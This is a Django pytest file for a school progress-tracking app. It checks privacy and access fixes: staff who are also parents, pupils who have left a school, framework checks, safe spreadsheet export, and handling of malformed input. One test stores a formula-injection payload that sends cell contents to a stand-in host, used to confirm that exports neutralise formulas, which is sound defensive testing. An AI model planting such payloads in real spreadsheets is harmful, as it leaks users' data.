"""Holes a privacy review of small steps found, each closed and kept closed: staff who are also
parents act and read as staff only on their own rows; a school never writes for its leaver nor
learns what the next school recorded; records only on a framework the pupil follows; exports
neutralise formulas; odd input never answers 500."""

import datetime as dt
import io
import json

import pytest
from django.urls import reverse

from strides.accounts import services as accounts
from strides.steps.models import AchievementRecord, Conversation, Shape
from strides.steps.queries import current_term
from strides.steps.services import StepsError
from strides.steps.services.frameworks import build_structure, create_framework
from strides.steps.services.recording import (
    RecordInput,
    assign_framework,
    record_achievements,
    share_progress_page,
)
from strides.steps.tests.conftest import linear_rows
from strides.testing.api import api_client
from strides.testing.cast import add_mover

pytestmark = pytest.mark.django_db


def conversation(c, steps, pupil, school):
    return Conversation.objects.create(
        pupil=pupil, school=school, area=steps.communication, academic_year=c.year,
        term=current_term(c.year, dt.date.today()), crossing="below", progress_percent=0, below_percent=2,
        above_percent=20, held_on=dt.date.today(), attendees="Secret Attendee", agreed_action="other",
        agreed_detail="Agreed detail", outcome="Secret outcome",
    )  # fmt: skip


def test_a_teacher_who_is_a_parent_cannot_open_or_close_their_childs_conversation_as_staff(steps, client_for):
    c = steps.cast
    item = conversation(c, steps, c.ben, c.north)  # Ben is in 3B, not the teacher's class
    accounts.link_parent(None, c.teacher, c.ben, c.trust, "father")
    share_progress_page(c.head, c.north, c.ben)
    url = reverse("steps:conversation", kwargs={"conversation_id": item.pk})
    client = client_for(c.teacher)
    assert client.get(url).status_code == 404
    assert client.post(url, {"step": "close", "outcome": "y"}).status_code == 404
    item.refresh_from_db()
    assert item.closed_at is None
    # on Ben's page they read it as his parent: what was agreed, not who met
    page = client.get(reverse("steps:pupil", kwargs={"pupil_id": c.ben.pk})).content.decode()
    assert "Agreed detail" in page and "Secret Attendee" not in page and "Secret outcome" not in page


def test_staff_details_are_decided_row_by_row(steps):
    c = steps.cast
    item = conversation(c, steps, c.ava, c.north)
    accounts.link_parent(None, c.river_head, c.ava, c.trust, "mother")
    share_progress_page(c.head, c.north, c.ava)
    rows = api_client(c.river_head).get("/api/v1/step-conversations/").json()["results"]
    [row] = [r for r in rows if r["id"] == item.pk]
    assert row["attendees"] is None and row["outcome"] is None and row["recorded_by"] is None
    [record] = record_achievements(c.teacher, c.north, [RecordInput(c.ava, steps.statements["C1.1"], "S")])
    rows = api_client(c.river_head).get("/api/v1/achievement-records/").json()["results"]
    assert [r["recorded_by"] for r in rows if r["id"] == record.pk] == [None]
    staff = api_client(c.head).get("/api/v1/step-conversations/").json()["results"]
    assert [r["attendees"] for r in staff if r["id"] == item.pk] == ["Secret Attendee"]


@pytest.fixture
def mover(steps):
    """Mia left north 60 days ago for river; both schools had her on the trust's framework."""
    c = add_mover(steps.cast)
    assign_framework(c.head, c.north, c.mia, steps.framework, c.mia_joined)
    before = c.mia_left - dt.timedelta(days=5)
    record_achievements(
        c.head, c.north, [RecordInput(c.mia, steps.statements["C1.1"], "E")], assessed_on=before
    )
    assign_framework(c.river_head, c.river, c.mia, steps.framework, c.mia_left + dt.timedelta(days=1))
    record_achievements(
        c.river_head, c.river, [RecordInput(c.mia, steps.statements[f"C1.{i}"], "S") for i in (1, 2, 3, 4)]
    )
    return c


def test_a_school_never_records_for_its_leaver(steps, mover):
    c = mover
    with pytest.raises(StepsError, match="not one you record for"):
        record_achievements(c.head, c.north, [RecordInput(c.mia, steps.statements["C1.2"], "S")])
    answer = api_client(c.head).post(
        "/api/v1/achievement-records/",
        {"school": c.north.urn, "pupil": c.mia.pk, "statement": steps.statements["C1.1"].pk, "level": "0",
         "expected_version": 0},
        format="json",
    )  # fmt: skip
    assert answer.status_code in (400, 403, 404)
    assert "current_version" not in answer.json()
    with pytest.raises(StepsError, match="not on Northfield Primary's roll"):
        assign_framework(c.head, c.north, c.mia, steps.framework, dt.date.today())
    with pytest.raises(StepsError, match="roll"):
        share_progress_page(c.head, c.north, c.mia)


def test_a_leavers_figures_at_their_old_school_never_carry_the_new_schools_records(steps, mover, client_for):
    from strides.steps.analysis import similar_for, term_progress

    c = mover
    frame = term_progress(c.trust, c.year, current_term(c.year, dt.date.today()))
    mia = frame.filter(frame["pupil_id"] == c.mia.pk)
    # filed under river (her latest framework there) and measured on river's records only
    assert set(mia["school_id"].to_list()) == {c.river.pk}
    assert similar_for(frame, c.mia.pk, c.north.pk) == []
    part = client_for(c.head).get(reverse("steps:pupil", kwargs={"pupil_id": c.mia.pk}) + "?part=similar")
    assert "Communication" not in part.content.decode()


def test_records_only_on_a_framework_the_pupil_follows(steps, client_for):
    c = steps.cast
    draft = create_framework(c.analyst, code="draft", name="Draft", shape=Shape.LINEAR, trust=c.trust)
    build_structure(c.analyst, draft, linear_rows())
    statement = draft.areas.get(code="communication").statements.first()
    url = reverse("steps:grid_save", kwargs={"group_id": c.class_3t.pk})
    cell = {"pupil": c.ava.pk, "statement": statement.pk, "code": "S", "version": 0}
    answer = client_for(c.teacher).post(url, json.dumps({"cells": [cell]}), content_type="application/json")
    assert "does not follow Draft" in answer.json()["answers"][0]["error"]
    assert not AchievementRecord.objects.filter(statement=statement).exists()


def test_the_analysis_download_neutralises_formulas(steps, client_for):
    from openpyxl import load_workbook

    from strides.classes import services as classes

    c = steps.cast
    group = classes.create_group(
        None, c.north, c.year, '=HYPERLINK("https://x.invalid/?"&A1,"open")', nc_year=3
    )
    classes.set_pupils(None, group, [c.ben])
    record_achievements(c.head, c.north, [RecordInput(c.ben, steps.statements["C1.1"], "S")])
    url = reverse("steps:analysis", kwargs={"urn": c.north.urn}) + "?wait=1&by=class&format=xlsx"
    sheet = load_workbook(io.BytesIO(client_for(c.head).get(url).content)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_odd_input_never_answers_500(steps, client_for):
    c = steps.cast
    client = client_for(c.teacher)
    save = reverse("steps:grid_save", kwargs={"group_id": c.class_3t.pk})
    huge = {"pupil": 10**30, "statement": 10**30, "code": "S", "version": 0}
    assert (
        client.post(save, json.dumps({"cells": [huge]}), content_type="application/json").status_code == 200
    )
    record = reverse("steps:pupil_record", kwargs={"pupil_id": c.ava.pk})
    statement = steps.statements["C1.1"]
    odd = {
        f"level-{statement.pk}": "S",
        f"version-{statement.pk}": "abc",
        f"independence-{statement.pk}": "²",
    }
    assert client.post(record, odd).status_code in (200, 302)
    placing = client_for(c.placing)
    assert placing.get(reverse("steps:pupil", kwargs={"pupil_id": c.dev.pk})).status_code == 404
    progress = api_client(c.placing).get(f"/api/v1/step-progress/{c.dev.pk}/")
    assert progress.status_code in (200, 404)
    assert not progress.json().get("areas")  # nothing of small steps, whichever
